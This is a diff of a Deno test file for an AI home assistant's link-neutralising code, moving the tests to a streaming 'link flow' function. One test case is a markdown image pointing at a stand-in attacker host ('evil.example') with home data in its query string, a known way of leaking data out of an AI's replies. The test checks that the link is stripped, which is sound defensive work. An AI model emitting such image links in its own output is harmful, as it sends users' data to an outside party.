@@ -1,5 +1,5 @@
 import { assertEquals } from "@std/assert";
-import { neutraliseLinks } from "../../../supabase/functions/ai-home-assistant/turn/neutralise_links.ts";
+import { createLinkFlow } from "../../../supabase/functions/ai-home-assistant/turn/neutralise_links.ts";
 
 const cases: [name: string, text: string, shown: string][] = [
   ["a markdown image", "Done. ![leak](https://evil.example/x.png?home=1)", "Done. leak"],
@@ -20,15 +20,20 @@ const cases: [name: string, text: string, shown: string][] = [
   ],
 ];
 
+function neutralised(text: string): string {
+  const flow = createLinkFlow();
+  return flow.push(text) + flow.end();
+}
+
 for (const [name, text, shown] of cases) {
-  Deno.test(`F-J: neutraliseLinks() treats ${name}`, () => {
-    assertEquals(neutraliseLinks(text), shown);
+  Deno.test(`F-J: a link flow treats ${name}`, () => {
+    assertEquals(neutralised(text), shown);
   });
 }
 
-Deno.test("F-J: neutraliseLinks() leaves nothing that a second look would change", () => {
+Deno.test("F-J: a link flow leaves nothing that a second look would change", () => {
   for (const [, text] of cases) {
-    const once = neutraliseLinks(text);
-    assertEquals(neutraliseLinks(once), once);
+    const once = neutralised(text);
+    assertEquals(neutralised(once), once);
   }
 });
